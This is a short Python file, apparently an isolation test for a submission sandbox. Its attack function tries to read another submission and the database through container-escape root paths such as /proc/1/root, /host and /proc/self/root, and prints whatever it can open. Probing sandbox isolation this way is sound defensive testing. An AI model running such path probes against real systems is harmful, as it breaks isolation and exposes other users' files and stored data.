"""Opens another's submission and the database by their paths, wherever the host's files might show."""

ROOTS = ("", "/host", "/oldroot", "/newroot", "/proc/1/root", "/proc/self/root", "/proc/self/cwd/../..")


def attack(world):
    for root in ROOTS:
        for name in ("submission_path", "database_path"):
            try:
                print(open(root + world[name]).read())
            except OSError as error:
                print("stopped:", error)
